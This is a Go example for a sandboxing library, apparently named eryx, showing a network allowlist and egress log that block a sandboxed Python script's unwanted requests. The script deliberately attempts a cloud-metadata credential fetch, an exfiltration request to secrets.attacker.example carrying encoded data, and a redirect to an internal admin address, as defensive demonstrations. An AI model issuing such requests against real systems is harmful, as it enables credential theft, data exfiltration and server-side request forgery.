// Networking lets a script use one server and nothing else, with Python's own
// HTTP client, and shows what it tried.
//
//	go run ./examples/networking python.eryx
package main

import (
	"context"
	"fmt"
	"log"
	"net"
	"net/http"
	"os"
	"sync"
	"time"

	"github.com/eryx-build/eryx"
)

func main() {
	if len(os.Args) != 2 {
		log.Fatal("usage: networking BUNDLE")
	}
	if err := run(context.Background(), os.Args[1]); err != nil {
		log.Fatal(err)
	}
}

const script = `
import json, os, urllib.request

def get(url):
    try:
        with urllib.request.urlopen(url, timeout=10) as response:
            return json.load(response)
    except OSError as e:
        return f"{type(getattr(e, 'reason', e)).__name__}"

print(get(os.environ["WEATHER"] + "/Cairo"))
print(get(os.environ["WEATHER"] + "/elsewhere"))           # which redirects
print(get("http://169.254.169.254/latest/meta-data/"))   # a cloud's credentials
print(get("http://secrets.attacker.example/c2VjcmV0"))   # data in a name
`

func run(ctx context.Context, bundle string) error {
	rt, err := eryx.Open(ctx, bundle, nil)
	if err != nil {
		return err
	}
	defer rt.Close()

	// The server stands for one of yours. It is on this machine, which scripts
	// reach only if they are let.
	listener, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return err
	}
	server := &http.Server{Handler: http.HandlerFunc(weather), ReadHeaderTimeout: time.Minute}
	defer server.Close()
	go func() { _ = server.Serve(listener) }()
	port := listener.Addr().(*net.TCPAddr).Port

	var (
		mu  sync.Mutex
		log []eryx.Egress
	)
	result, err := rt.Execute(ctx, script, &eryx.SandboxConfig{
		Env: map[string]string{"WEATHER": fmt.Sprintf("http://localhost:%d", port)},
		Network: &eryx.Network{
			Hosts:           []string{fmt.Sprintf("localhost:%d", port), "*.example.com"},
			ConnectionLimit: 2,
			TrafficLimit:    1 << 20, // bytes
			OnEgress: func(e eryx.Egress) {
				mu.Lock()
				defer mu.Unlock()
				log = append(log, e)
			},
		},
	})
	if err != nil {
		return err
	}
	fmt.Printf("%s", result.Stdout)
	for _, e := range log {
		switch {
		case e.Kind == eryx.EgressLookup && e.Decision == eryx.Denied:
			fmt.Printf("may not look up %q: %s\n", e.Name, e.Reason)
		case e.Kind == eryx.EgressConnect && e.Decision == eryx.Allowed:
			fmt.Println("connected to", e.Names)
		}
	}
	return nil
}

func weather(w http.ResponseWriter, r *http.Request) {
	if r.URL.Path == "/elsewhere" {
		http.Redirect(w, r, "http://10.0.0.1/admin", http.StatusFound)
		return
	}
	fmt.Fprintf(w, `{"city": %q, "degrees": 31}`, r.URL.Path[1:])
}
